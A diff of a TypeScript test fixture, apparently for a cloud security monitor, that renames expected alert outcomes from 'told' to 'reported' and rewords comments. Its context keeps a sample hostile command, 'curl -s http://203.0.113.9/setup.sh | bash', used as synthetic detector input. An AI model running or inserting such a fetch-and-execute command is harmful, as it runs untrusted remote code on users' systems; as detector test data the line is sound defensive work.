@@ -14,9 +14,9 @@ type Fate =
   /** Judged, with nothing to be said. */
   | 'silent'
   /** An alert of its own arrives. */
-  | 'told'
+  | 'reported'
   /** An alert arrives, or is counted with one of its caller. */
-  | 'told or counted'
+  | 'reported or counted'
   /** Nothing of ours, or what is known already. */
   | 'passed over'
   | 'quarantined'
@@ -54,7 +54,7 @@ const STORM = 25
 const ROUTINE_SCRIPT = 'yum -y update'
 const HOSTILE_SCRIPT = 'curl -s http://203.0.113.9/setup.sh | bash'
 
-/** Settings under which the story has the fates that it tells of. */
+/** Settings under which the story has the fates it names. */
 export const STORY_SETTINGS: Readonly<Record<string, string>> = {
   RUNWARDEN_KNOWN_ADMINS: JSON.stringify(['aws:123456789012:role/Operator-*']),
 }
@@ -71,7 +71,7 @@ export const scriptOf = (commandId: string): string =>
 const isoSeconds = (at: number): string =>
   new Date(Math.floor(at / SECOND) * SECOND).toISOString().replace('.000Z', 'Z')
 
-/** Ids that the helpers draw anew at each call, by the event's own. */
+/** Ids that the helpers draw again at each call, by the event's own. */
 const pinned = <T extends { readonly detail: unknown }>(event: T, id: string): T => ({
   ...event,
   id,
@@ -123,16 +123,16 @@ const other = (fate: Fate, number: number, event: (id: string) => unknown): Occu
   return { fate, id, caller: '', alert: '', event: () => event(id) }
 }
 
-/** One command and one session of each operator, the day before: told of as first seen, and known from then on. */
+/** One command and one session of each operator, the day before: reported as first seen, and known from then on. */
 export const yesterday = (): readonly Occurrence[] =>
   Array.from({ length: OPERATORS }, (_, operator) => operator).flatMap((operator) => [
     {
       ...command('silent', 9_000_000 + operator, `Operator-${operator}`, fleetOf(operator), BEGIN - DAY),
-      fate: 'told' as const,
+      fate: 'reported' as const,
     },
     {
       ...session('silent', 9_100_000 + operator, `Operator-${operator}`, fleetOf(operator)[0] ?? '', BEGIN - DAY),
-      fate: 'told' as const,
+      fate: 'reported' as const,
     },
   ])
 
@@ -169,11 +169,11 @@ export const story = (events: number, random: Random): readonly Delivery[] => {
           pinned(updateFunctionEvent('checkout', { eventId: id, time: isoSeconds(at) }), id),
         ),
       )
-    else if (draw < 0.98) put(place, session('told', mine, `Stranger-${mine}`, machines(1)[0] ?? '', at))
-    else if (draw < 0.996) withNatives(command('told', mine, `Stranger-${mine}`, machines(1), at), true)
+    else if (draw < 0.98) put(place, session('reported', mine, `Stranger-${mine}`, machines(1)[0] ?? '', at))
+    else if (draw < 0.996) withNatives(command('reported', mine, `Stranger-${mine}`, machines(1), at), true)
     else if (draw < 0.998)
       for (let again = 0; again < STORM; again++)
-        put(place + again, command('told or counted', ++number, `Storm-${mine}`, machines(1), at + again * SECOND))
+        put(place + again, command('reported or counted', ++number, `Storm-${mine}`, machines(1), at + again * SECOND))
     else
       put(
         place,
